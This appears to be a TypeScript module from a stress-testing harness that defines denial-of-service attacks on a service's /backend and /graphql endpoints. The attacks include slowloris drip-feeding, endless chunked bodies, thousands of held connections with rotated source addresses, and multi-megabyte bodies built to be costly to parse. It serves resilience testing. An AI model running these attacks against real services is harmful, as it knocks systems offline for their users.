/** Bodies that come slowly, in crumbs, never whole, or are much work to read. */
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { type Attacker, outcomeOf } from '../attacker.ts';

const MIB = 1024 * 1024;
const CRUMB = '1\r\n \r\n';

const head = (line: string, token: string | undefined, more: string) =>
  `POST ${line} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}${more}\r\n\r\n`;

/** Counts how a connection was answered or ended. */
function counted(attacker: Attacker, socket: Socket): Socket {
  let answered = false;
  socket.on('data', (data: Buffer) => {
    const text = data.toString('latin1');
    const status = /^HTTP\/1\.1 (\d+)/.exec(text)?.[1];
    if (status) attacker.count(outcomeOf(Number(status), text));
    answered ||= status !== undefined;
  });
  socket.on('close', () => {
    if (!answered) attacker.count('cut');
  });
  return socket;
}

/** Sends as fast as it is taken, until it is cut. */
async function pour(attacker: Attacker, socket: Socket, data: Buffer): Promise<void> {
  while (!attacker.over && socket.writable) {
    if (!socket.write(data)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), attacker.wait()]).catch(() => {});
    await sleep(0);
  }
}

/** As many connections as are given, each of which sends headers and a part of its body, and keeps it. */
async function hold(attacker: Attacker, count: number, bytes: number, from: () => string | undefined): Promise<void> {
  const body = Buffer.alloc(64 * 1024, ' ');
  const one = async () => {
    const localAddress = from();
    const socket = counted(attacker, await attacker.connect(localAddress ? { localAddress } : {}));
    socket.write(head('/backend', undefined, `Content-Length: ${bytes + 1}`));
    for (let sent = 0; sent < bytes && socket.writable && !attacker.over; sent += body.length) {
      if (!socket.write(body))
        await Promise.race([once(socket, 'drain'), once(socket, 'close'), attacker.wait()]).catch(() => {});
    }
  };
  await Promise.race([Promise.all(Array.from({ length: count }, one)), attacker.wait()]);
  await attacker.wait();
}

const crumbs = (path: string, token: (attacker: Attacker) => string | undefined) => async (attacker: Attacker) => {
  const data = Buffer.from(CRUMB.repeat(10_000));
  await attacker.flood(5, async () => {
    const socket = counted(attacker, await attacker.connect());
    socket.write(head(path, token(attacker), 'Transfer-Encoding: chunked'));
    await pour(attacker, socket, data);
  });
};

/** Arrays within an array: small on the wire, and each is an object. */
const arrays = (bytes: number, before: string, after: string) =>
  Buffer.from(`${before}${'[],'.repeat(Math.floor((bytes - before.length - after.length - 3) / 3))}[]${after}`);

export const BODIES: Attack[] = [
  { name: 'bodies in crumbs on /backend', by: 'nobody', run: crumbs('/backend', () => undefined) },
  { name: 'bodies in crumbs on /graphql', by: 'user', run: crumbs('/graphql', ({ targets }) => targets.user) },
  {
    name: '300 connections hold 8 MiB each, from one address',
    by: 'nobody',
    run: (attacker) => hold(attacker, 300, 8 * MIB - 1, () => undefined),
  },
  {
    name: '300 connections hold 8 MiB each, from 300 addresses',
    by: 'nobody',
    run: (attacker) => hold(attacker, 300, 8 * MIB - 1, () => attacker.nextAddress()),
  },
  {
    name: '1,000 connections that send a byte a second',
    by: 'nobody',
    run: async (attacker) => {
      const one = async () => {
        const socket = counted(attacker, await attacker.connect({ localAddress: attacker.nextAddress() }));
        socket.write('POST /backend HTTP/1.1\r\nX: ');
        while (!attacker.over && socket.writable) {
          socket.write('a');
          await attacker.wait(1_000);
        }
      };
      await Promise.race([Promise.all(Array.from({ length: 1_000 }, one)), attacker.wait()]);
    },
  },
  {
    name: 'connections made and dropped',
    by: 'nobody',
    run: (attacker) =>
      attacker.flood(50, async () => {
        const socket = await attacker.connect({ localAddress: attacker.nextAddress() });
        attacker.count(socket.destroyed ? 'refused' : 'taken');
        socket.destroy();
      }),
  },
  {
    name: 'ops of 8 MiB, all of them arrays',
    by: 'nobody',
    run: (attacker) => {
      const body = arrays(8 * MIB, '{"op":"groupadd","x":[', ']}');
      return attacker.flood(4, () => attacker.ask({ path: '/backend', body }));
    },
  },
  {
    name: 'forms of 8 MiB, all of them names',
    by: 'nobody',
    run: (attacker) => {
      const body = Buffer.from('a&'.repeat(4 * MIB));
      const headers = { 'Content-Type': 'application/x-www-form-urlencoded' };
      return attacker.flood(4, () => attacker.ask({ path: '/backend', body, headers }));
    },
  },
  {
    name: 'bodies of 32 MiB, all of them arrays',
    by: 'user',
    run: (attacker) => {
      const body = arrays(32 * MIB, '{"query":"{ viewer { address } }","variables":{"x":[', ']}}');
      return attacker.flood(4, () => attacker.ask({ token: attacker.targets.user, body }));
    },
  },
  {
    name: '100 bodies of 30 MiB at once, in one text',
    by: 'user',
    run: (attacker) => {
      const body = `{"query":"{ viewer { address } }","variables":{"x":"${'x'.repeat(30 * MIB)}"}}`;
      return attacker.flood(100, () => attacker.ask({ token: attacker.targets.user, body }));
    },
  },
  {
    name: '3,000 connections of a token that stay',
    by: 'user',
    run: async (attacker) => {
      const body = '{"query":"{ viewer { address } }"}';
      const one = async () => {
        const socket = counted(attacker, await attacker.connect({ localAddress: attacker.nextAddress() }));
        socket.write(`${head('/graphql', attacker.targets.user, `Content-Length: ${body.length}`)}${body}`);
      };
      for (let n = 0; n < 3_000 && !attacker.over; n++) await one();
      await attacker.wait();
    },
  },
];
